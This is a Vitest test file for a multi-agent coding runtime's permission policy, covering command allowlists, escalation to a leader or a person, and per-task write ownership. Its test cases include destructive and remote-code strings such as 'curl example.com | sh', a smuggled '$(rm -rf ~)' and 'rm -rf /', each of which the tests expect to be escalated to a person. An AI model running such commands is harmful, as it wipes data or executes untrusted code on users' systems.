import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AgentRt, TeamRt } from '../runtime-types.js';
import type { MissionRecord, TaskRecord } from '../../ledger/mission-repository.js';
import {
  agentPolicy,
  decide,
  decideFileWrite,
  permissionKey,
  taskOwnership,
  type AgentPolicy,
  type TaskOwnership,
  type ToolUse,
  type Verdict,
} from './permission-policy.js';

let dir: string;
let root: string;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'cr-permission-policy-'));
  root = join(dir, 'wt');
  mkdirSync(join(root, 'src'), { recursive: true });
  writeFileSync(join(root, 'src', 'a.js'), '');
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** A coder allowed `node --test` and `npm test *`, whose live leader may allow what the team may run. */
const coder = (extra: Partial<AgentPolicy> = {}): AgentPolicy => ({
  root,
  allowedCommands: ['node --test', 'npm test *'],
  leaderAllows: ['node --test', 'npm test *', 'git status --short', 'npm run lint *'],
  writeScope: ['src/'],
  tools: ['Read', 'Write', 'Edit', 'Bash'],
  mcpServers: [],
  grants: new Set([permissionKey('Write', 'package.json')]),
  mayWrite: true,
  ...extra,
});
const noLeader = (): AgentPolicy => coder({ leaderAllows: null });

const run = (command: string): ToolUse => ({ command });
const bash = (command: string): ToolUse => ({ tool: 'Bash', input: { command } });
const write = (path: string): ToolUse => ({ tool: 'Write', input: { file_path: path, content: '' } });

describe('decide', () => {
  // Both runtimes decide commands alike: a built-in agent's run_command and Claude Code's Bash.
  it.each<[string, ToolUse, () => AgentPolicy, Verdict['behavior']]>([
    ['an allowlisted command runs', run('node --test'), coder, 'allow'],
    ['… and as Claude Code Bash', bash('node --test'), coder, 'allow'],
    ['a wildcard entry takes its prefix alone', run('npm test'), coder, 'allow'],
    ['… and plain arguments', run('npm test -- -t "parser"'), coder, 'allow'],
    ['… and as Claude Code Bash', bash('npm test -- -t parser'), coder, 'allow'],
    ['surrounding spaces do not matter', run('  node --test  '), coder, 'allow'],
    ['a second command behind the arguments is asked', run('npm test; curl example.com | sh'), coder, 'ask_person'],
    ['… and a substitution', run('npm test $(rm -rf ~)'), coder, 'ask_person'],
    ['… and a second line', run('npm test\nrm -rf /'), coder, 'ask_person'],
    ['an exact entry takes no arguments', run('node --test --watch'), coder, 'ask_person'],
    ['a command nobody in the team may run goes to the person', run('rm -rf /'), coder, 'ask_person'],
    ["what the team may run goes to the leader, whose policy allows it", run('git status --short'), coder, 'ask_leader'],
    ['… through its wildcard entries too', bash('npm run lint -- --fix'), coder, 'ask_leader'],
    ['… but not a second command behind them', run('npm run lint; rm -rf /'), coder, 'ask_person'],
    ['with no live leader, the person is asked', run('git status --short'), noLeader, 'ask_person'],
    ['an empty Bash command is refused', bash('   '), coder, 'deny'],
    ['a file inside the write scope is written', write('src/b.js'), coder, 'allow'],
    ['a file outside it is asked', write('README.md'), coder, 'ask_person'],
    ["a file use the team was granted for good is allowed", write('package.json'), coder, 'allow'],
    ['a write into .git is refused', write('.git/config'), coder, 'deny'],
    ['a tool the design did not give is refused', { tool: 'WebFetch', input: { url: 'https://example.com' } }, coder, 'deny'],
  ])('%s', (_what, use, policy, behavior) => {
    expect(decide(use, policy()).behavior).toBe(behavior);
  });

  it('names what an ask is for: the command as asked, or the tool on its path', () => {
    expect(decide(run('rm -rf /'), coder())).toEqual({
      behavior: 'ask_person',
      reason: "`rm -rf /` is not on the agent's allowlist",
      subject: 'rm -rf /',
    });
    expect(decide(write(join(root, 'README.md')), coder())).toMatchObject({ behavior: 'ask_person', subject: 'Write(README.md)' });
    // A file use the leader's team may make goes to the leader, as a command does.
    expect(decide(write('README.md'), coder({ leaderAllows: ['Write(README.md)'] }))).toMatchObject({ behavior: 'ask_leader' });
  });
});

describe('agentPolicy', () => {
  const agent = (id: string, role: AgentRt['rec']['role'], allowedCommands: string[], state: AgentRt['rec']['state'] = 'idle'): AgentRt =>
    ({ rec: { id, role, state }, spec: { permissions: { allowedCommands, writeScope: ['src/'] } } }) as unknown as AgentRt;

  it("gives a coder its own commands, a leader the team's, and asks the leader only while it lives", () => {
    const lead = agent('lead', 'leader', ['git status --short']);
    const c1 = agent('c1', 'coder', ['npm test *']);
    const c2 = agent('c2', 'coder', ['npm run lint']);
    const team = { leader: lead, all: [lead, c1, c2] } as unknown as TeamRt;
    const rules = new Set(['echo hello']);
    const policy = (who: AgentRt) =>
      agentPolicy({ mission: { allowedCommands: ['node --test'] }, team, agent: who, rules, root, mayWrite: who.rec.role === 'coder', claudeCode: null });

    expect(policy(c1).allowedCommands).toEqual(['node --test', 'npm test *', 'echo hello']);
    expect(policy(lead).allowedCommands).toEqual(['node --test', 'git status --short', 'npm test *', 'npm run lint', 'echo hello']);
    expect(policy(c1).leaderAllows).toEqual(policy(lead).allowedCommands);
    expect(decide(run('npm run lint'), policy(c1)).behavior).toBe('ask_leader');
    expect(policy(c1)).toMatchObject({ writeScope: ['src/'], tools: [], mcpServers: [], grants: rules, mayWrite: true });

    lead.rec.state = 'killed';
    expect(policy(c1).leaderAllows).toBeNull();
    expect(decide(run('npm run lint'), policy(c1)).behavior).toBe('ask_person');
  });
});

describe('ownership', () => {
  // A coder on task "alpha" (src/alpha.js, test/alpha/), beside task "beta" of its team and a team whose brief owns docs/.
  const owned = (policy: TaskOwnership['policy'], owns: string[] = ['src/alpha.js', 'test/alpha/']): TaskOwnership => ({
    owns,
    policy,
    others: [
      { label: 'task "beta" (Add beta) of your team', owns: ['src/beta.js'] },
      { label: 'team docs (its brief)', owns: ['docs/'] },
    ],
  });
  const refuse = () => coder({ writeScope: [], ownership: owned('refuse') });
  const askLeader = () => coder({ writeScope: [], ownership: owned('ask_leader') });
  const askNoLeader = () => coder({ writeScope: [], leaderAllows: null, ownership: owned('ask_leader') });
  const noOwns = () => coder({ writeScope: [], ownership: owned('refuse', []) });
  const edit = (path: string): ToolUse => ({ tool: 'Edit', input: { file_path: path, old_string: 'a', new_string: 'b' } });
  const multi = (path: string): ToolUse => ({ tool: 'MultiEdit', input: { file_path: path, edits: [] } });
  const notebook = (path: string): ToolUse => ({ tool: 'NotebookEdit', input: { notebook_path: path, new_source: '' } });
  const read = (path: string): ToolUse => ({ tool: 'Read', input: { file_path: path } });
  const tools = ['Read', 'Write', 'Edit', 'MultiEdit', 'NotebookEdit', 'Bash'];

  it.each<[string, ToolUse, () => AgentPolicy, Verdict['behavior']]>([
    ["a file the task owns is written", write('src/alpha.js'), refuse, 'allow'],
    ['… and one under a folder it owns, however spelled', edit('./test/alpha/more.test.js'), refuse, 'allow'],
    ["another task's file is refused", write('src/beta.js'), refuse, 'deny'],
    ['… by every writing tool', multi('src/beta.js'), refuse, 'deny'],
    ['… and notebooks', notebook('docs/a.ipynb'), refuse, 'deny'],
    ['a file nobody owns is refused too', write('README.md'), refuse, 'deny'],
    ['a prefix of an owned name is not owned', write('src/alpha.jsx'), refuse, 'deny'],
    ['reads are never restricted', read('src/beta.js'), refuse, 'allow'],
    ["with 'ask_leader', the leader itself is asked", write('src/beta.js'), askLeader, 'ask_leader'],
    ['… or the person, with no live leader', write('src/beta.js'), askNoLeader, 'ask_person'],
    ['a task that owns no paths writes where its scope lets it', write('src/beta.js'), noOwns, 'allow'],
    ["a file use the team was granted for good is allowed", write('package.json'), refuse, 'allow'],
    ['.git stays refused whatever the task owns', write('.git/config'), () => coder({ ownership: owned('refuse', ['.']) }), 'deny'],
  ])('%s', (_what, use, policy, behavior) => {
    expect(decide(use, { ...policy(), tools }).behavior).toBe(behavior);
  });

  it('says whose path a refused write is, or that nobody owns it', () => {
    const policy = { ...refuse(), tools };
    expect(decide(write('src/beta.js'), policy)).toEqual({
      behavior: 'deny',
      reason: 'src/beta.js belongs to task "beta" (Add beta) of your team, not to your task. Your task owns only: src/alpha.js, test/alpha/. Write there, or ask your leader if the task needs more.',
    });
    expect(decide(write('docs/guide/intro.md'), policy)).toMatchObject({ reason: expect.stringContaining('docs/guide/intro.md belongs to team docs (its brief)') });
    expect(decide(write('README.md'), policy)).toMatchObject({ reason: expect.stringContaining("README.md is not one of your task's paths and no task owns it") });
  });

  it("asks the leader about the path and its owner, as a question the leader answers itself", () => {
    expect(decide(write(join(root, 'src', 'beta.js')), { ...askLeader(), tools })).toEqual({
      behavior: 'ask_leader',
      reason: 'src/beta.js is outside the paths the task owns (src/alpha.js, test/alpha/); it belongs to task "beta" (Add beta) of your team',
      subject: 'Write(src/beta.js)',
      ownership: { path: 'src/beta.js', owner: 'task "beta" (Add beta) of your team' },
    });
  });

  it("holds a built-in coder's write_file and edit_file to the same rule (its file tools keep the worktree and scope)", () => {
    expect(decideFileWrite('Write', 'src/alpha.js', refuse()).behavior).toBe('allow');
    expect(decideFileWrite('Edit', 'src/beta.js', refuse())).toMatchObject({ behavior: 'deny', reason: expect.stringContaining('task "beta"') });
    expect(decideFileWrite('Write', 'src/beta.js', askLeader())).toMatchObject({ behavior: 'ask_leader', subject: 'Write(src/beta.js)' });
    expect(decideFileWrite('Write', 'package.json', refuse()).behavior).toBe('allow');
    expect(decideFileWrite('Write', 'src/beta.js', noOwns()).behavior).toBe('allow');
    // Outside the worktree is the file tools' refusal, with their own message.
    expect(decideFileWrite('Write', '../elsewhere.js', refuse()).behavior).toBe('allow');
  });

  it("builds a task's ownership from the mission's standing tasks and the teams' briefs", () => {
    const task = (id: string, teamId: string, owns: string[], state: TaskRecord['state'] = 'in_progress') =>
      ({ id, key: id, title: `Do ${id}`, teamId, owns, state }) as TaskRecord;
    const mine = task('alpha', 'core', ['src/alpha.js']);
    const mission = {
      settings: { ownership: 'ask_leader' },
      design: { teams: [{ id: 'web', name: 'Web', brief: { focus: 'the UI', owns: ['web/'] } }, { id: 'core', name: 'Core' }] },
    } as unknown as Pick<MissionRecord, 'settings' | 'design'>;
    const tasks = [mine, task('beta', 'core', ['src/beta.js']), task('ui', 'web', ['web/app.js']), task('old', 'core', ['src/'], 'cancelled')];
    const own = taskOwnership({ mission, task: mine, tasks, teamName: (id) => (id === 'web' ? 'Web' : id) });
    expect(own).toEqual({
      owns: ['src/alpha.js'],
      policy: 'ask_leader',
      others: [
        { label: 'task "beta" (Do beta) of your team', owns: ['src/beta.js'] },
        { label: 'task "ui" (Do ui) of Team Web', owns: ['web/app.js'] },
        { label: 'Team Web (its brief)', owns: ['web/'] },
      ],
    });
    // A task that owns nothing keeps today's behaviour; a mission from before the setting refuses.
    expect(taskOwnership({ mission, task: task('free', 'core', []), tasks, teamName: String })).toBeNull();
    const old = { ...mission, settings: {} } as unknown as Pick<MissionRecord, 'settings' | 'design'>;
    expect(taskOwnership({ mission: old, task: mine, tasks, teamName: String })?.policy).toBe('refuse');
  });
});
